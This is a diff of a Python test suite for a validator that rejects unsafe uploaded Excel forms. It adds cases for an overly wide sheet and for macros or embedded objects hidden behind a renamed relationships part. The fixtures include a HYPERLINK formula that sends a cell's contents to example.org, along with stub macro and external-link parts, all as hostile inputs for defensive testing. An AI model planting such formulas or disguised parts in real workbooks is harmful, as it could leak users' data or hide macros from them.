@@ -140,6 +140,14 @@ def _all_rows_of_excel() -> bytes:
     )
 
 
+def relation_of(kind: str) -> bytes:
+    """A list of relations that tells of a part of this kind."""
+    return (
+        f'<Relationships xmlns="{PACKAGE}/relationships">'
+        f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="a.bin"/></Relationships>'
+    ).encode()
+
+
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"1")'
 PNG = b"\x89PNG\r\n\x1a\n" + bytes(200)
 
@@ -161,6 +169,9 @@ BAD: dict[str, Bad] = {
     ),
     "a million rows": _of("форма.xlsx", 413, "Файл", lambda _: _all_rows_of_excel()),
     "a file too large": _of("форма.xlsx", 413, "МБ", lambda form: form.file + bytes(6_000_000)),
+    "a sheet too wide": _of(
+        "форма.xlsx", 413, "столбцов", lambda form: form.with_value("ZZ9", "болел")
+    ),
     "a formula": _at_its_cell(400, lambda form: form.with_value(form.cell, FORMULA)),
     "macros": _of(
         "форма.xlsx", 400, "макрос", lambda form: form.with_parts(**{"vbaProject.bin": b"x"})
@@ -171,6 +182,18 @@ BAD: dict[str, Bad] = {
         400,
         "ссыл",
         lambda form: form.with_parts(**{"externalLinks/externalLink1.xml": b"<a/>"}),
+    ),
+    "macros under another name": _of(
+        "форма.xlsx",
+        400,
+        "макрос",
+        lambda form: form.with_parts(**{"_rels/other.rels": relation_of("vbaProject")}),
+    ),
+    "a thing inside under another name": _of(
+        "форма.xlsx",
+        400,
+        "вложен",
+        lambda form: form.with_parts(**{"_rels/other.rels": relation_of("oleObject")}),
     ),
     "a name in a cell": _at_its_cell(422, lambda form: form.with_value(form.cell, NAMES_PUPIL)),
     "a name in a comment": _of(
